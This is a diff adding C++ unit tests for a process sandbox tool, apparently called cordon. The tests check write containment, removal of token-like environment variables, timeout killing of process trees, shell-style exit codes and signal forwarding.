+  EXPECT_EQ(read_file(box.ws / "existing.txt"), "original\n");
+  EXPECT_FALSE(exists(box.ws / "new.txt"));
+}
+
+TEST(Containment, ExtraWritableRootIsWritableAndOthersAreNot) {
+  Sandbox box;
+  OutsideDir extra, other;
+  auto o = box.sh("echo ok > " + extra.path() + "/made.txt; echo bad > " + other.path() + "/made.txt; true",
+                  {"--writable", extra.path()});
+  EXPECT_EQ(read_file(extra / "made.txt"), "ok\n") << o.err;
+  EXPECT_FALSE(exists(other / "made.txt"));
+}
+
+TEST(Containment, SecretLookingVariablesAreDroppedUnlessKept) {
+  Sandbox box;
+  const std::vector<std::string> env = {"MY_SERVICE_TOKEN=tok-value", "CORDON_PLAIN_SETTING=plain-value"};
+  const std::string script = "echo token=${MY_SERVICE_TOKEN:-unset} plain=${CORDON_PLAIN_SETTING:-unset}";
+  auto dropped = box.sh(script, {}, "", env);
+  EXPECT_EQ(dropped.out, "token=unset plain=plain-value\n") << dropped.err;
+  auto kept = box.sh(script, {"--env-keep", "MY_SERVICE_TOKEN"}, "", env);
+  EXPECT_EQ(kept.out, "token=tok-value plain=plain-value\n") << kept.err;
+}
+
+// ---- lifecycle ----------------------------------------------------------------------------
+
+TEST(Containment, TimeoutKillsTheWholeTree) {
+  Sandbox box;
+  const std::string token = "31." + std::to_string(::getpid()) + "7";
+  auto start = Clock::now();
+  auto o = box.sh("sleep " + token + " & sleep " + token, {"--timeout", "1"});
+  auto elapsed = Clock::now() - start;
+  EXPECT_EQ(o.code, 124) << o.err;
+  EXPECT_LT(elapsed, std::chrono::seconds(5));
+  ::usleep(200 * 1000);
+  auto left = host_processes_with("sleep " + token);
+  EXPECT_TRUE(left.empty()) << left.front();
+}
+
+TEST(Containment, ExitCodeIs128PlusTheSignal) {
+  Sandbox box;
+  EXPECT_EQ(box.sh("kill -TERM $$").code, 128 + SIGTERM);
+  EXPECT_EQ(box.sh("kill -KILL $$").code, 128 + SIGKILL);
+  EXPECT_EQ(box.sh("exit 3").code, 3);
+}
+
+TEST(Containment, CommandNotFoundIs127) {
+  Sandbox box;
+  auto o = run_process({cordon_binary(), "run", "--no-config", "--", "cordon-no-such-command-xyz"},
+                       box.ws.path(), "", box.env({"PATH=/usr/bin:/bin"}));
+  EXPECT_EQ(o.code, 127) << o.err;
+  EXPECT_TRUE(contains(o.err, "cordon-no-such-command-xyz")) << o.err;
+}
+
+// As in sh and bash: a command found nowhere is 127, even if a $PATH entry was unreadable
+// (execvp then reports EACCES). Inside, even root lacks CAP_DAC_OVERRIDE.
+TEST(Containment, CommandNotFoundIs127EvenWithAnUnreadablePathEntry) {
+  Sandbox box;
+  OutsideDir dir;
+  fs::create_directories(dir / "locked");
+  ::chmod((dir / "locked").c_str(), 0);
+  const std::string path = "PATH=" + dir.path() + "/locked:/usr/bin:/bin";
+  auto shell = run_process({"sh", "-c", "cordon-no-such-command-xyz"}, box.ws.path(), "", {path});
+  auto o = run_process({cordon_binary(), "run", "--no-config", "--", "cordon-no-such-command-xyz"},
+                       box.ws.path(), "", box.env({path}));
+  ::chmod((dir / "locked").c_str(), 0755);
+  EXPECT_EQ(shell.code, 127) << shell.err;
+  EXPECT_EQ(o.code, 127) << o.err;
+}
+
+TEST(Containment, SigtermAndSigintToCordonAreForwarded) {
+  for (int sig : {SIGTERM, SIGINT}) {
+    SCOPED_TRACE(sig == SIGTERM ? "SIGTERM" : "SIGINT");
+    Sandbox box;
+    const std::string name = sig == SIGTERM ? "TERM" : "INT";
+    pid_t pid = spawn_cordon(
+        box, "trap 'echo got > trapped; exit 3' " + name + "; echo > ready; while :; do sleep 0.05; done");
+    ASSERT_TRUE(wait_for_file(box.ws / "ready", 10000));
+    ::kill(pid, sig);
+    int code = wait_exit(pid, 10000);
+    EXPECT_EQ(code, 3);
+    EXPECT_EQ(read_file(box.ws / "trapped"), "got\n");
+  }
+}
